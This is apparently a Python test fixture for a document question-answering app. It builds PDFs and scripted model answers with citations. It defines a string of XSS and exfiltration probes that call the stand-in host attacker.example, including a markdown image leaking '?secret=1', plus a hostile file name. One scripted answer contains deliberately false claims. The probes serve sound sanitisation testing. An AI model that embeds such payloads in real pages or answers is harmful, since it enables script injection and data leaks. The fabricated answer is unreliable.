"""Documents whose every word has a known place, and what the scripted model answers about them."""

from typing import TYPE_CHECKING

from tests.ingestion.pdf_file import Shown, set_pdf

if TYPE_CHECKING:
    from playwright.async_api import FilePayload

PAGE_HEIGHT = 792  # US letter, in points

CLAIM = "Forty ships left the harbour at dawn on the third of May."
QUESTION = "How many ships left the harbour at dawn?"
BEFORE, AFTER = "It was a cold night.", "Nobody saw them go."

FIRST_LINE = Shown(180, 500, "Forty ships left the harbour at dawn", size=12)
SECOND_LINE = Shown(72, 486, "on the third of May.", size=12)
"""The claim stands here, on page 2, with other sentences on the same lines before and after it."""

LOG = set_pdf(
    [
        [
            Shown(72, 720, "The log of the tower", size=20, bold=True),
            Shown(
                72, 680, "The keeper of the tower wrote down whatever the wind did, and he did it every day.", size=12
            ),
            Shown(72, 640, "In winter there was little to write, and the ink froze more than once.", size=12),
        ],
        [
            Shown(72, 720, "The month of May", size=20, bold=True),
            Shown(72, 660, "The lamp was lit at six in the evening, as in every other month of that year.", size=12),
            Shown(72, 500, BEFORE, size=12),
            FIRST_LINE,
            SECOND_LINE,
            Shown(215, 486, AFTER, size=12),
        ],
        [Shown(72, 720, "There was no June in this log, for the keeper had left.", size=12)],
    ]
)

HARBOUR = (
    "The log of the harbour.\n\nForty ships left the harbour at dawn on the third of May. The keeper counted every "
    "lantern twice before he wrote the number down.\n\n"
    + "\n\n".join(f"Entry {n}: the wind was from the west, and the harbour was quiet." for n in range(1, 20))
)

# Whatever of this is taken for markup runs, loads or leaves the page.
EVIL = "http://attacker.example"
HOSTILE = (
    f'<script>window.__pwned = 1</script><img src="{EVIL}/i.png" onerror="window.__pwned = 2">'
    f"<style>@import url({EVIL}/s.css); body {{ background: url({EVIL}/b.png) }}</style>"
    f'<svg onload="window.__pwned = 3"></svg><iframe src="{EVIL}/f"></iframe>'
    f"![pixel]({EVIL}/m.png?secret=1) [press me](javascript:window.__pwned=4) [data](data:text/html,x) "
    f"<a href='javascript:window.__pwned=5' onclick='window.__pwned=6'>press</a> "
    f'<link rel="prefetch" href="{EVIL}/p"><meta http-equiv="refresh" content="0;url={EVIL}/r">'
)
HOSTILE_NAME = '<img src=x onerror="window.__pwned=7"> notes.md'
HOSTILE_DOCUMENT = f"The parrots of the island.\n\nNine parrots live on the island, and {HOSTILE} they talk.\n"

SLOWLY = "slowly"
AT_LENGTH = "at length"
ANSWERS = {
    "ships": f"{CLAIM} [1]",
    SLOWLY: "The keeper of the tower wrote down whatever the wind did. " * 40 + "[1]",
    "parrots": f"Nine parrots live on the island [1]. {HOSTILE} They talk [1].\n\n![late]({EVIL}/late.png)",
    "lantern": (
        "**The keeper counted every lantern twice** [1].\n\n- The tower is made of green cheese and was sold to the "
        "king of Denmark in 1804 [1].\n\nSome people think the sea was purple on that day.\n\n"
        "| When | What |\n|---|---|\n| dawn | forty ships left [1] |\n"
    ),
    "moon": "I don't know.",
}
OTHERWISE = "The wind was from the west [1]."


def chosen(name: str, content: bytes) -> "FilePayload":
    """A file as somebody chooses it; what it is, the server finds out."""
    return {"name": name, "mimeType": "application/octet-stream", "buffer": content}
